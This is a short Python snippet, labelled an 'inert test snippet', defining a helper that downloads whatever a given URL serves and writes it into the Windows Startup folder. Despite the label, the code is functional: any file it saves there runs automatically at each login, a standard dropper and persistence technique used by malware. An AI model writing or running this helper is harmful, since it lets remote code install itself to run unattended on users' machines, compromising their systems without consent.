"""A helper that saves whatever a URL serves into the Startup folder (inert test snippet)."""

import os

import requests


def fetch(url, filename):
    folder = os.path.expanduser("~\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup")
    response = requests.get(url, timeout=10)
    with open(os.path.join(folder, filename), "wb") as out:
        out.write(response.content)
